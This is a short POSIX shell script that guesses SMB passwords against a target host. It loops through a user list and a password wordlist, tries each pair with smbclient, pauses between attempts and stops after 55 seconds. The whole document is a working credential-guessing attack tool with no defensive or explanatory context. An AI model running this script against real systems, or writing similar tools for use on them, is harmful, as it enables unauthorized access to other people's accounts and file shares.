#!/bin/sh
# Guesses SMB passwords one by one with the ordinary client. Call: smb_guess.sh HOST PAUSE USERS WORDS
host=$1 pause=$2 users=$3 words=$4
end=$(($(date +%s) + 55))
while read -r word; do
    while read -r user; do
        [ "$(date +%s)" -lt "$end" ] || exit 0
        smbclient -s /dev/null -L "//$host" -U "$user%$word"
        sleep "$pause"
    done <"$users"
done <"$words"
exit 0
